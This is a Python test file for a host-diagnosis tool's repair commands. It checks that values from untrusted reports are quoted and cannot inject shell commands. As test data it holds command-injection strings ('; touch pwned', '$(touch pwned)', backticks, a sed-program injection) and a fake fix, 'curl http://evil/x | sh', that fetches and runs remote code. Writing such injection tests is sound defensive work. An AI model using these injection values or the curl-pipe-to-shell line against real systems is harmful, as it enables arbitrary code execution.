"""A host that says anything: no word of it becomes a command, and no check ends as a bug."""

from __future__ import annotations

import ast
import dataclasses
import json
import re
import sys
from collections.abc import Iterator, Mapping
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from tests.unit.doctor.builders import ADDRESS, PYTHON, broken, firewall, home, told, unreached
from tests.unit.doctor.test_checks_found import CASES
from tests.unit.doctor.test_checks_lines import run
from tests.unit.doctor.test_replay import through_json
from tests.unit.doctor.troubles import Make, said

import yoked
from yoked.doctor.causes import findings_of
from yoked.doctor.render import evidence, payload
from yoked.doctor.repairs.fleet import edit_entry
from yoked.doctor.repairs.network import write_name
from yoked.doctor.repairs.startfiles import take_out_variable
from yoked.doctor.replay import from_json, to_json
from yoked.errors import YokedError
from yoked.records.examination import Examination, Finding, Fix

HOSTILE = (
    "x; touch pwned $(touch pwned) `touch pwned` ' touch pwned \" touch pwned\ntouch pwned\x1b[1m"
)
RULES = [
    "table inet filter {",
    "chain input {",
    "type filter hook input priority filter; policy drop;",
    "}",
    "}",
]


def kept_out(kind: str, rules: list[str] | None = None) -> Make:
    return lambda: broken(
        told(home(), "garage", "health/firewall", firewall(kind, rules)), "attic", "garage"
    )


def no_way_out(kind: str) -> Make:
    return lambda: broken(told(home(), "garage", "health/firewall", firewall(kind)), "garage")


HOMES: dict[str, Make] = {
    **{f"{number} {case.check}": case.make for number, case in enumerate(CASES)},
    **{kind: kept_out(kind) for kind in ("ufw", "firewalld", "nft", "iptables", "macos")},
    "nft with rules": kept_out("nft", RULES),
    **{f"{kind}, out": no_way_out(kind) for kind in ("ufw", "firewalld", "nft", "iptables")},
    "a python of one's own": lambda: told(
        said("torch/torch", None)(), "garage", "wanted/python", "/opt/venv/bin/python"
    ),
}


def every_fix(found: tuple[Finding, ...]) -> Iterator[Fix]:
    for each in found:
        yield from each.fix
        yield from every_fix(each.follows)


def commands(seen: Examination) -> list[str]:
    fixes = list(every_fix(findings_of(seen)))
    return [line for fix in fixes for line in (fix.command, fix.undo or "", fix.kept)]


def words_of(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif dataclasses.is_dataclass(value):
        for each in dataclasses.fields(value):
            yield from words_of(getattr(value, each.name))
    elif isinstance(value, Mapping):
        for item in value.values():
            yield from words_of(item)
    elif isinstance(value, (list, tuple)):
        for item in value:
            yield from words_of(item)


def instead(value: Any, old: str, new: str) -> Any:
    """The same, with another word wherever one is."""
    if isinstance(value, str):
        return new if value == old else value
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        changed = {
            each.name: instead(getattr(value, each.name), old, new)
            for each in dataclasses.fields(value)
        }
        return replace(value, **changed)
    if isinstance(value, Mapping):
        return {instead(k, old, new): instead(item, old, new) for k, item in value.items()}
    if isinstance(value, (list, tuple)):
        return type(value)(instead(item, old, new) for item in value)
    return value


def told_words(seen: Examination) -> list[str]:
    """The words of an examination that its commands have, whole or in part."""
    text = "\n".join(commands(seen))
    pieces = {word: re.split(r"[+=:/]", word) for word in set(words_of(seen)) if len(word) > 1}
    return sorted(
        word
        for word, parts in pieces.items()
        if word in text or any(len(part) > 3 and part in text for part in parts)
    )


def is_bare(line: str) -> bool:
    """Whether a shell would read the hostile word outside single quotes."""
    # A command in $(...) has quotes of its own, also within double ones.
    quotes, place = [""], 0
    while place < len(line):
        char, quote = line[place], quotes[-1]
        if quote != "'" and line.startswith("pwned", place):
            return True
        if quote == "'":
            quotes[-1] = "" if char == "'" else quote
        elif char == "\\":
            place += 1
        elif line.startswith("$(", place):
            quotes.append("")
            place += 1
        elif char == "(" and not quote:
            quotes.append("")
        elif char == ")" and not quote and len(quotes) > 1:
            quotes.pop()
        elif char in "'\"" and quote in ("", char):
            quotes[-1] = char if not quote else ""
        place += 1
    return False


@pytest.mark.parametrize("name", HOMES)
def test_a_word_that_nobody_has_read_is_quoted_in_every_line(name: str) -> None:
    seen = HOMES[name]()

    for word in told_words(seen):
        hostile = instead(seen, word, HOSTILE)
        for fix in every_fix(findings_of(hostile)):
            for line in (fix.command, fix.undo or "", fix.kept):
                assert "\n" not in line, (word, line)
                assert "\x1b" not in line, (word, line)
                if fix.by_hand:
                    # Prose has apostrophes; what is told in it is quoted as a whole.
                    line = re.sub(r"(?<=[a-z])'(?=s\b)", "", line)  # noqa: PLW2901
                assert not is_bare(line), (word, line)


@pytest.mark.parametrize("name", HOMES)
def test_a_word_of_a_report_that_cannot_be_is_in_no_line(name: str) -> None:
    seen = HOMES[name]()

    for word in told_words(seen):
        try:
            read = through_json(instead(seen, word, HOSTILE))
        except YokedError:
            continue
        assert not [line for line in commands(read) if "pwned" in line], word


@pytest.mark.parametrize("name", HOMES)
def test_a_report_of_honest_words_is_read_as_it_is(name: str) -> None:
    seen = HOMES[name]()

    read = through_json(seen)

    assert [place for host in read.hosts for place in host.odd] == []
    lost = {fix for each in seen.hosts if each.failure for fix in each.failure.fix}
    honest = [each for each in findings_of(seen) if not lost & {f.command for f in each.fix}]
    assert [each for each in findings_of(read) if each in honest] == honest


def test_a_peer_that_gives_a_command_for_its_address_opens_no_firewall_with_it() -> None:
    seen = broken(
        told(home(), "garage", "health/firewall", firewall("ufw")),
        "attic",
        "garage",
        source_address="10.0.0.1; touch pwned",
    )

    read = through_json(seen)

    assert "ufw prepend allow from" not in "\n".join(commands(seen))
    assert "pwned" not in "\n".join(commands(read))
    assert "dial.source_address" in read.host("attic").odd
    assert ADDRESS["attic"]


JUNK = st.one_of(
    st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=8),
    st.just(HOSTILE), st.just([]), st.just({}), st.just(10**400), st.just([[None]]),
    st.just({"pid": {}}), st.sampled_from(["10.0.0.1", "eth0", "ETIMEDOUT", "vpn", "2.0"]),
)  # fmt: skip


def places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    items = (
        value.items()
        if isinstance(value, Mapping)
        else enumerate(value)
        if isinstance(value, list)
        else ()
    )
    for key, item in items:
        yield (*path, key)
        yield from places(item, (*path, key))


@given(st.data())
@settings(max_examples=400, deadline=None, suppress_health_check=list(HealthCheck))
def test_no_report_however_damaged_ends_a_check_as_a_bug(data: st.DataObject) -> None:
    name = data.draw(st.sampled_from(sorted(HOMES)))
    content = json.loads(json.dumps(to_json(HOMES[name]())))
    known = list(places(content))
    for _ in range(data.draw(st.integers(1, 8))):
        *path, last = data.draw(st.sampled_from(known))
        place: Any = content
        try:
            for key in path:
                place = place[key]
            if data.draw(st.booleans()) and isinstance(place, dict):
                place.pop(last, None)
            else:
                place[last] = data.draw(JUNK)
        except (KeyError, IndexError, TypeError):
            continue

    try:
        seen = from_json(content)
    except YokedError:
        return
    found = findings_of(seen)
    assert json.dumps(payload(seen, found))
    assert evidence(seen, found, bandwidth=True) is not None
    assert not [line for line in commands(seen) if "pwned" in line]


def test_a_saved_failure_brings_no_line_of_its_own() -> None:
    seen = replace(home(("attic",)), hosts=(home().hosts[0], unreached("garage", "other", "no")))
    evil = replace(seen.hosts[1].failure, fix=("curl http://evil/x | sh",))  # type: ignore[type-var]
    seen = replace(seen, hosts=(seen.hosts[0], replace(seen.hosts[1], failure=evil)))

    read = through_json(seen)

    assert not [line for line in commands(read) if "evil" in line]
    assert PYTHON


# Which arguments of a function are words of a shell.
TEMPLATES = {"shell_line": slice(0, 1), "by_hand": slice(1, 2), "by_hand_later": slice(0, 1),
             "as_root": slice(1, 3), "template": slice(0, 1), "here": slice(0, None),
             "there": slice(0, None)}  # fmt: skip


def test_lines_for_a_shell_have_literal_words_and_quoted_values_alone() -> None:
    """What builds a line any other way could forget a quote."""
    package = Path(yoked.__file__).parent
    wrong = []
    for path in sorted(package.rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        for node in ast.walk(ast.parse(text)) if "import" in text and "shell" in text else ():
            if not isinstance(node, ast.Call) or not isinstance(node.func, ast.Name):
                continue
            where = f"{path.relative_to(package)}:{node.lineno}"
            if node.func.id == "Line" and "records.shell import" in text:
                wrong.append(f"{where}: Line() is made by shell_line alone")
            templates = TEMPLATES.get(node.func.id, slice(0))
            for words in node.args[templates]:
                # `by_hand` and `as_root` hand their own words on, `here` and `there` those of ssh.
                is_maker = path.match("repairs/base.py") or path.match("checks/ssh_mends.py")
                handed_on = isinstance(words, ast.Name) and is_maker
                if not handed_on and not isinstance(words, ast.Constant):
                    wrong.append(f"{where}: its words are no literal")
    assert wrong == []


SED_HOSTILE = "a/e;touch pwned;#\n\\1[.*"


@pytest.mark.skipif(sys.platform != "linux", reason="the lines are for Linux")
def test_a_word_in_a_program_of_seds_is_no_part_of_it(tmp_path: Path) -> None:
    (tmp_path / ".bashrc").write_text("export GLOO_atouchpwned1=1\n")
    (tmp_path / "yoked.toml").write_text('[[host]]\nname = "a"\nranks = 1\n')
    seen = replace(home(), controller={"fleet": str(tmp_path / "yoked.toml")})
    hosts = str(tmp_path / "hosts")
    (tmp_path / "hosts").write_text("10.0.0.1 a\n")

    named = write_name(home().hosts[0].name, SED_HOSTILE, "10.0.0.1")
    run(named.command.replace("/etc/hosts", hosts), tmp_path)
    run(take_out_variable("garage", f"GLOO_{SED_HOSTILE}").command, tmp_path)
    run(edit_entry(seen, SED_HOSTILE, "s/^ranks *=.*/ranks = 2/").command, tmp_path)

    assert not (tmp_path / "pwned").exists()
    assert "ranks = 1" in (tmp_path / "yoked.toml").read_text()
